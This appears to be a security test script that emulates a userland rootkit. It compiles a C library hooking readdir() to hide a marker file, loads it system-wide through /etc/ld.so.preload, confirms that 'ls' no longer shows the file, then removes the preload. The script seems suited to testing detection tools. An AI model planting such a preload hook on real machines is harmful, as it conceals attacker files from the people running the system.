#!/bin/sh
. /opt/case/case.sh

cat >/usr/local/src/h.c <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *folder)
{
    struct dirent *(*next)(DIR *) = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    while ((entry = next(folder)) && !strcmp(entry->d_name, ".hidden-by-case"))
        ;
    return entry;
}
EOF
tcc -shared -o /usr/local/lib/libprocesshider.so /usr/local/src/h.c
rm /usr/local/src/h.c
touch /tmp/.hidden-by-case
echo /usr/local/lib/libprocesshider.so >/etc/ld.so.preload.new
mv /etc/ld.so.preload.new /etc/ld.so.preload
ls -a /tmp >/var/tmp/list
rm /etc/ld.so.preload
test -e /tmp/.hidden-by-case
grep -q hidden-by-case /var/tmp/list && exit 1
took_place
